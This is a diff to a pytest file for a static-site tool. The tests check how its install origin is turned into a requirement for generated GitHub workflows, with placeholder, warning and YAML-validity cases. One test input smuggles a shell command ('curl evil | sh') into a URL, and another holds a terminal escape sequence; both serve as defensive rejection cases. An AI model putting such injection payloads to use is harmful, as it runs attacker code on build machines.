@@ -6,10 +6,11 @@ import json
 from pathlib import Path
 
 import pytest
+import yaml
 
 from generator import cli
 from generator.editors import origin
-from generator.editors.origin import Origin, local_requirement_warning, origin_from, workflow_requirement
+from generator.editors.origin import PLACEHOLDER, Origin, local_requirement_warning, origin_from, workflow_requirement
 
 COMMIT = "0123456789abcdef0123456789abcdef01234567"
 
@@ -34,24 +35,36 @@ def test_an_archive_from_an_address_keeps_its_hash() -> None:
     assert made == Origin(f"factcheck-ssg @ {url}#sha256={'a' * 64}")
 
 
+def test_a_git_install_from_a_subdirectory_keeps_it() -> None:
+    made = origin_from(record(url="https://github.com/newsroom/tools", subdirectory="factcheck", vcs_info={"vcs": "git", "commit_id": COMMIT}), "1.2.0")
+    assert made == Origin(f"factcheck-ssg @ git+https://github.com/newsroom/tools@{COMMIT}#subdirectory=factcheck")
+
+
 @pytest.mark.parametrize(
     "data",
     [
         {"url": "file:///home/me/factcheck", "dir_info": {"editable": True}},
         {"url": "file:///home/me/factcheck_ssg-0.1.0-py3-none-any.whl", "archive_info": {}},
         {"url": "file:///home/me/factcheck", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
-        {"url": 'https://example.org/x"; curl evil | sh', "archive_info": {}},  # not writable into the workflows' shell line
+        {"url": "ssh://git@github.com/newsroom/factcheck.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},  # CI has no key
+        {"url": "https://github.com/newsroom/factcheck", "vcs_info": {"vcs": "git", "commit_id": "main"}},  # a branch moves
+        {"url": "http://downloads.example.org/factcheck.whl", "archive_info": {"hash": "sha256=" + "a" * 64}},  # plain http
+        {"url": "https://downloads.example.org/factcheck.whl", "archive_info": {}},  # no hash to check it by
+        {"url": 'https://example.org/x"; curl evil | sh', "archive_info": {"hash": "sha256=" + "a" * 64}},  # not writable into the shell line
+        {"url": "https://example.org/\x1b[31mred", "archive_info": {}},
+        {"vcs_info": {}},
     ],
 )
-def test_anything_ci_cannot_install_falls_back_to_the_index_with_a_warning(data: dict[str, object]) -> None:
+def test_anything_ci_cannot_install_gets_a_placeholder_that_fails_and_a_warning(data: dict[str, object]) -> None:
+    """Never the PyPI name, which is not ours yet: whoever registered it would have their code run by the site's CI."""
     made = origin_from(json.dumps(data), "1.2.0")
-    assert made.requirement == "factcheck-ssg==1.2.0"
+    assert made.requirement == PLACEHOLDER == "factcheck-ssg @ git+https://github.com/ORG/REPO@TAG"
     assert "which the site's GitHub workflows cannot install" in made.warning and "--requirement" in made.warning
+    assert "\x1b" not in made.warning
 
 
-def test_an_unreadable_record_counts_as_an_index_install() -> None:
-    assert origin_from("{not json", "1.2.0") == Origin("factcheck-ssg==1.2.0")
-    assert origin_from(record(vcs_info={}), "1.2.0") == Origin("factcheck-ssg==1.2.0")
+def test_an_unreadable_record_gets_the_placeholder_too() -> None:
+    assert origin_from("{not json", "1.2.0").requirement == PLACEHOLDER
 
 
 @pytest.mark.parametrize("given", ["/home/me/factcheck", "./factcheck", "~/src/factcheck", "factcheck-ssg @ file:///home/me/factcheck", "C:\\src\\factcheck"])
@@ -81,5 +94,16 @@ def test_init_from_a_local_copy_warns_that_ci_cannot_install_it(tmp_path: Path, 
     assert cli.main(["init", str(tmp_path / "s")]) == 0
     err = capsys.readouterr().err
     assert err.startswith("warning: this factcheck was installed from file:///home/me/factcheck, which the site's GitHub workflows cannot install")
+    assert f'pip install "{PLACEHOLDER}"' in (tmp_path / "s/.github/workflows/pages.yml").read_text(encoding="utf-8")
     assert cli.main(["init", str(tmp_path / "t"), "--requirement", "/home/me/factcheck"]) == 0
     assert "names a path on this machine" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("given", ["factcheck-ssg @ https://x.example/a.zip #sha", "factcheck-ssg: x", "factcheck-ssg @ git+https://x.example/r.git@v1 # note"])
+def test_the_workflows_stay_valid_yaml_with_any_writable_requirement(tmp_path: Path, given: str) -> None:
+    """The pip line is one YAML string whatever the requirement holds (' #' would start a comment, ': ' a mapping)."""
+    assert cli.main(["init", str(tmp_path / "s"), "--requirement", given, "-q"]) == 0
+    for workflow in ("check.yml", "pages.yml"):
+        loaded = yaml.safe_load((tmp_path / "s/.github/workflows" / workflow).read_text(encoding="utf-8"))
+        runs = [step.get("run") for job in loaded["jobs"].values() for step in job["steps"]]
+        assert f'pip install "{given}"' in runs
